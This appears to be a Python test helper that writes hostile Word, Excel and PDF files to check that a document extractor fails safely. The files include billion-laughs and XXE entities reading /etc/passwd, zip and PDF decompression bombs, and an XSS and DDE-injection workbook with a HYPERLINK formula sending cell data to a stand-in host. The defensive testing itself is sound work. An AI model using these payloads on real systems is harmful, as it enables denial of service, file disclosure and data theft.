"""Hostile and broken files, written at test time into a folder: nothing binary is committed.

Each function writes one file and returns its path. They are built from the samples (a
real copy of the form with a payload put inside) or written byte by byte where no tool
writes such a thing (a PDF whose page tree loops, a zip whose directory lies).

`python -m tests.extractor.hostiles CARPETA` writes them all, to try them by hand:
`planmejora extraer CARPETA` must answer each within seconds, with a Spanish error or a result.
"""

from __future__ import annotations

import io
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import openpyxl

MUESTRAS = Path(__file__).resolve().parents[2] / "muestras"
MB = 1024 * 1024

RISA = (
    '<?xml version="1.0"?>\n<!DOCTYPE lol [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">\n' for n in range(1, 10))
    + "]>\n"
)
"""The DTD of "billion laughs": `&lol9;` expands to 10^9 copies of `lol`."""
EXTERNA = '<?xml version="1.0"?>\n<!DOCTYPE x [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'
"""A DTD whose entity reads a file of the machine (XXE)."""

HIPERVINCULO = '=HYPERLINK("http://malo.example/?robar="&A1,"Ver anexo")'
GUION = "<script>alert('planmejora')</script>"
CONTROL = "Convalidadas_x0000_ mediante_x0007_ acta_x001B_ 05_xD800_ de 2022"
"""Excel's escapes for characters XML cannot hold: NUL, BEL, ESC and half of a UTF-16 pair."""
LARGO = "Presentar las TRD actualizadas. " * 40_000
"""About 1.3 MB in one cell: far past what Excel itself lets a person type (32 767 characters)."""


# --- Word and Excel packages --------------------------------------------------------------


def _reempaquetar(origen: Path, destino: Path, cambiar: Callable[[str, bytes], bytes | None]) -> Path:
    """A copy of a package with some parts changed (`cambiar` gives the new bytes, or None to drop the part)."""
    with zipfile.ZipFile(origen) as viejo, zipfile.ZipFile(destino, "w", zipfile.ZIP_DEFLATED) as nuevo:
        for info in viejo.infolist():
            datos = cambiar(info.filename, viejo.read(info))
            if datos is not None:
                nuevo.writestr(info.filename, datos)
    return destino


def _con_prologo(prologo: str, xml: bytes, cuerpo_nuevo: Callable[[str], str] = lambda s: s) -> bytes:
    """The part with its XML declaration replaced by `prologo` (a DTD), and its text changed by `cuerpo_nuevo`."""
    texto = re.sub(r"^<\?xml[^>]*\?>\s*", "", xml.decode("utf-8"))
    return (prologo + cuerpo_nuevo(texto)).encode("utf-8")


def docx_risa(carpeta: Path) -> Path:
    """The Word body starts with the billion-laughs DTD and uses `&lol9;` in a paragraph."""

    def cambiar(nombre: str, datos: bytes) -> bytes:
        if nombre != "word/document.xml":
            return datos
        return _con_prologo(RISA, datos, lambda s: s.replace("Ver anexo", "&lol9;", 1))

    return _reempaquetar(MUESTRAS / "tamboral_2022.docx", carpeta / "risa.docx", cambiar)


def docx_externa(carpeta: Path) -> Path:
    """The Word body declares an entity that reads /etc/passwd and shows it in a cell."""

    def cambiar(nombre: str, datos: bytes) -> bytes:
        if nombre != "word/document.xml":
            return datos
        return _con_prologo(EXTERNA, datos, lambda s: s.replace("Ver anexo", "&xxe;", 1))

    return _reempaquetar(MUESTRAS / "tamboral_2022.docx", carpeta / "externa.docx", cambiar)


_EN_LINEA = re.compile(r'<c ([^>]*?)t="inlineStr"([^>]*)><is><t(?: [^>]*)?>(.*?)</t></is></c>', re.DOTALL)


def _con_cadenas_compartidas(carpeta: Path) -> Path:
    """The Excel sample with its text in a table of shared strings (`xl/sharedStrings.xml`), as Excel saves it.

    The samples are written by openpyxl, which keeps text inside each cell instead.
    """
    cadenas: list[str] = []

    def compartir(encontrada: re.Match[str]) -> str:
        cadenas.append(encontrada.group(3))
        return f'<c {encontrada.group(1)}t="s"{encontrada.group(2)}><v>{len(cadenas) - 1}</v></c>'

    def cambiar(nombre: str, datos: bytes) -> bytes:
        if nombre == "xl/worksheets/sheet1.xml":
            return _EN_LINEA.sub(compartir, datos.decode("utf-8")).encode("utf-8")
        if nombre == "[Content_Types].xml":
            return datos.replace(
                b"</Types>",
                b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
            )
        if nombre == "xl/_rels/workbook.xml.rels":
            return datos.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdCadenas" Target="sharedStrings.xml" Type="http://schemas.openxmlformats.org/'
                b'officeDocument/2006/relationships/sharedStrings"/></Relationships>',
            )
        return datos

    ruta = _reempaquetar(MUESTRAS / "sabana_alta_2021.xlsx", carpeta / "con_cadenas.xlsx", cambiar)
    tabla = "".join(f"<si><t>{cadena}</t></si>" for cadena in cadenas)
    with zipfile.ZipFile(ruta, "a", zipfile.ZIP_DEFLATED) as paquete:
        paquete.writestr(
            "xl/sharedStrings.xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="{len(cadenas)}" '
            f'uniqueCount="{len(cadenas)}">{tabla}</sst>',
        )
    return ruta


def _entidad_en_libro(carpeta: Path, parte: str, prologo: str, entidad: str, nombre: str) -> Path:
    """A workbook whose `parte` starts with `prologo` (a DTD) and uses `entidad` in a cell, or as a sheet name."""

    def usar(xml: str) -> str:
        if parte == "xl/workbook.xml":
            return re.sub(r'name="[^"]*"', f'name="{entidad}"', xml, count=1)
        return xml.replace("Archivo General", entidad, 1)

    def cambiar(nombre_parte: str, datos: bytes) -> bytes:
        return _con_prologo(prologo, datos, usar) if nombre_parte == parte else datos

    base = parte.rsplit("/", 1)[-1].removesuffix(".xml")
    return _reempaquetar(_con_cadenas_compartidas(carpeta), carpeta / f"{nombre}_{base}.xlsx", cambiar)


def xlsx_risa(carpeta: Path, parte: str) -> Path:
    """A workbook whose `parte` (shared strings, a sheet, the workbook itself) holds the billion laughs."""
    return _entidad_en_libro(carpeta, parte, RISA, "&lol9;", "risa")


def xlsx_externa(carpeta: Path, parte: str) -> Path:
    """A workbook whose `parte` declares an entity that reads /etc/passwd."""
    return _entidad_en_libro(carpeta, parte, EXTERNA, "&xxe;", "externa")


def bomba_proporcion(carpeta: Path) -> Path:
    """A workbook with one part of 50 MB of zeros: a few tens of kilobytes that inflate a thousand times."""
    ceros = b"\0" * (50 * MB)
    return _reempaquetar(
        MUESTRAS / "sabana_alta_2021.xlsx",
        carpeta / "bomba_proporcion.xlsx",
        lambda nombre, datos: datos + ceros if nombre == "docProps/app.xml" else datos,
    )


def bomba_declarada(carpeta: Path) -> Path:
    """A Word file whose zip directory declares 4 GB for its body: refused on what it says, before inflating."""
    ruta = carpeta / "bomba_declarada.docx"
    datos = bytearray((MUESTRAS / "calica_2021.docx").read_bytes())
    inicio = datos.rfind(b"PK\x05\x06")
    (directorio,) = struct.unpack_from("<I", datos, inicio + 16)
    posicion = directorio
    while datos[posicion : posicion + 4] == b"PK\x01\x02":
        largo_nombre, largo_extra, largo_comentario = struct.unpack_from("<HHH", datos, posicion + 28)
        nombre = bytes(datos[posicion + 46 : posicion + 46 + largo_nombre])
        if nombre == b"word/document.xml":
            struct.pack_into("<I", datos, posicion + 24, 0xFFFF_FFF0)
        posicion += 46 + largo_nombre + largo_extra + largo_comentario
    ruta.write_bytes(datos)
    return ruta


def bomba_escondida(carpeta: Path) -> Path:
    """A Word file whose directory says its body is small while the data inflates to 200 MB."""
    origen = carpeta / "bomba_escondida_origen.docx"
    grande = b"<!-- " + b" " * (200 * MB) + b" -->"
    _reempaquetar(
        MUESTRAS / "calica_2021.docx",
        origen,
        lambda nombre, datos: datos + grande if nombre == "word/document.xml" else datos,
    )
    datos = bytearray(origen.read_bytes())
    origen.unlink()
    for firma, desplazamiento in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        posicion = datos.find(firma)
        while posicion >= 0:
            campo = 26 if firma == b"PK\x03\x04" else 28
            (largo_nombre,) = struct.unpack_from("<H", datos, posicion + campo)
            base = 30 if firma == b"PK\x03\x04" else 46
            if bytes(datos[posicion + base : posicion + base + largo_nombre]) == b"word/document.xml":
                (declarado,) = struct.unpack_from("<I", datos, posicion + desplazamiento)
                if declarado > 100 * MB:
                    struct.pack_into("<I", datos, posicion + desplazamiento, 40_000)
            posicion = datos.find(firma, posicion + 4)
    ruta = carpeta / "bomba_escondida.docx"
    ruta.write_bytes(datos)
    return ruta


def muchas_partes(carpeta: Path, cuantas: int = 12_000) -> Path:
    ruta = _reempaquetar(MUESTRAS / "sabana_alta_2021.xlsx", carpeta / "muchas_partes.xlsx", lambda n, d: d)
    with zipfile.ZipFile(ruta, "a") as paquete:
        for n in range(cuantas):
            paquete.writestr(f"customXml/relleno{n}.xml", b"")
    return ruta


def libro_hostil(carpeta: Path, nombre: str = "hostil.xlsx") -> Path:
    """A real copy of the form whose cells hold what a careless or hostile hand may type.

    Formulas as text and as a real formula, HTML, control characters in Excel's escapes,
    a cell of more than a megabyte, and a date that is a formula.
    """
    libro = openpyxl.load_workbook(MUESTRAS / "sabana_alta_2021.xlsx")
    hoja = libro.worksheets[0]
    hoja["B11"] = "Tablas sin convalidar " + GUION
    hoja["C11"] = LARGO
    hoja["H11"] = "<img src=x onerror=alert(1)>Archivo General"
    hoja["J12"] = HIPERVINCULO
    hoja["L12"] = "=1+1"
    hoja["J13"] = GUION
    hoja["E13"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    hoja["I13"] = '=HYPERLINK("http://malo.example","Profesional")'  # a real formula, with no cached value
    hoja["N11"] = "MARCA_CONTROL"
    crudo = io.BytesIO()
    libro.save(crudo)
    ruta = carpeta / nombre
    with zipfile.ZipFile(crudo) as origen, zipfile.ZipFile(ruta, "w", zipfile.ZIP_DEFLATED) as destino:
        for info in origen.infolist():
            destino.writestr(info.filename, origen.read(info).replace(b"MARCA_CONTROL", CONTROL.encode()))
    return ruta


# --- PDF ----------------------------------------------------------------------------------


def _pdf(objetos: list[bytes], raiz: int = 1) -> bytes:
    """A PDF of numbered objects (1, 2, …) with a correct cross-reference table."""
    salida = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    posiciones = []
    for numero, cuerpo in enumerate(objetos, start=1):
        posiciones.append(len(salida))
        salida += b"%d 0 obj\n" % numero + cuerpo + b"\nendobj\n"
    xref = len(salida)
    salida += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objetos) + 1)
    salida += b"".join(b"%010d 00000 n \n" % p for p in posiciones)
    salida += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objetos) + 1, raiz, xref)
    return bytes(salida)


def _flujo(datos: bytes, comprimir: bool = True) -> bytes:
    if comprimir:
        datos = zlib.compress(datos, 9)
        return b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(datos) + datos + b"\nendstream"
    return b"<< /Length %d >>\nstream\n" % len(datos) + datos + b"\nendstream"


_FUENTE = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pdf_paginas(carpeta: Path, cuantas: int = 5000, cuenta: int | None = None) -> Path:
    """`cuantas` blank pages; `cuenta` is what the page tree says it holds (a liar says 1)."""
    hijos = b" ".join(b"%d 0 R" % (3 + n) for n in range(cuantas))
    objetos = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (hijos, cuantas if cuenta is None else cuenta),
    ]
    objetos += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"] * cuantas
    nombre = f"paginas_{cuantas}" + ("" if cuenta is None else f"_dice_{cuenta}") + ".pdf"
    ruta = carpeta / nombre
    ruta.write_bytes(_pdf(objetos))
    return ruta


def pdf_lento(carpeta: Path, operaciones: int = 3_000_000) -> Path:
    """One page drawing millions of tiny glyphs: a parser is busy for minutes on a file of a few hundred KB."""
    contenido = b"BT /F1 1 Tf " + b"1 0 0 1 10 10 Tm (a) Tj " * operaciones + b"ET"
    objetos = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _flujo(contenido),
        _FUENTE,
    ]
    ruta = carpeta / "lento.pdf"
    ruta.write_bytes(_pdf(objetos))
    return ruta


def pdf_bomba(carpeta: Path, mb: int = 1024) -> Path:
    """A page whose content stream is about a megabyte that inflates to `mb` megabytes of spaces.

    Built from one megabyte compressed once and repeated: each piece ends with a full flush,
    so it stands alone, and the stream stays valid (with its checksum) without compressing gigabytes.
    """
    compresor = zlib.compressobj(9, zlib.DEFLATED, -15)
    trozo = b" " * MB
    pieza = compresor.compress(trozo) + compresor.flush(zlib.Z_FULL_FLUSH)
    suma = 1
    for _ in range(mb):
        suma = zlib.adler32(trozo, suma)
    comprimido = b"\x78\xda" + pieza * mb + compresor.flush(zlib.Z_FINISH) + suma.to_bytes(4, "big")
    flujo = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(comprimido) + comprimido + b"\nendstream"
    objetos = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        flujo,
    ]
    ruta = carpeta / "bomba.pdf"
    ruta.write_bytes(_pdf(objetos))
    return ruta


def pdf_arbol_circular(carpeta: Path) -> Path:
    """The page tree holds itself among its own pages."""
    objetos = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ]
    ruta = carpeta / "arbol_circular.pdf"
    ruta.write_bytes(_pdf(objetos))
    return ruta


def pdf_dibujo_circular(carpeta: Path) -> Path:
    """A page that draws a form (XObject) that draws itself."""
    dibujo = b"q /X1 Do Q BT /F1 12 Tf 72 700 Td (Plan) Tj ET"
    objetos = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /XObject << /X1 5 0 R >> /Font << /F1 6 0 R >> >> >>",
        _flujo(b"/X1 Do", comprimir=False),
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] "
        b"/Resources << /XObject << /X1 5 0 R >> /Font << /F1 6 0 R >> >> /Length %d >>\nstream\n"
        % len(dibujo)
        + dibujo
        + b"\nendstream",
        _FUENTE,
    ]
    ruta = carpeta / "dibujo_circular.pdf"
    ruta.write_bytes(_pdf(objetos))
    return ruta


TODOS: dict[str, Callable[[Path], Path]] = {
    "docx_risa": docx_risa,
    "docx_externa": docx_externa,
    "xlsx_risa_cadenas": lambda c: xlsx_risa(c, "xl/sharedStrings.xml"),
    "xlsx_risa_hoja": lambda c: xlsx_risa(c, "xl/worksheets/sheet1.xml"),
    "xlsx_risa_libro": lambda c: xlsx_risa(c, "xl/workbook.xml"),
    "xlsx_externa_cadenas": lambda c: xlsx_externa(c, "xl/sharedStrings.xml"),
    "xlsx_externa_libro": lambda c: xlsx_externa(c, "xl/workbook.xml"),
    "bomba_proporcion": bomba_proporcion,
    "bomba_declarada": bomba_declarada,
    "bomba_escondida": bomba_escondida,
    "muchas_partes": muchas_partes,
    "libro_hostil": libro_hostil,
    "pdf_paginas": pdf_paginas,
    "pdf_paginas_mentira": lambda c: pdf_paginas(c, 5000, cuenta=1),
    "pdf_lento": pdf_lento,
    "pdf_bomba": pdf_bomba,
    "pdf_arbol_circular": pdf_arbol_circular,
    "pdf_dibujo_circular": pdf_dibujo_circular,
}


if __name__ == "__main__":
    destino = Path(sys.argv[1] if len(sys.argv) > 1 else "hostiles")
    destino.mkdir(parents=True, exist_ok=True)
    for fabricar in TODOS.values():
        print(fabricar(destino))
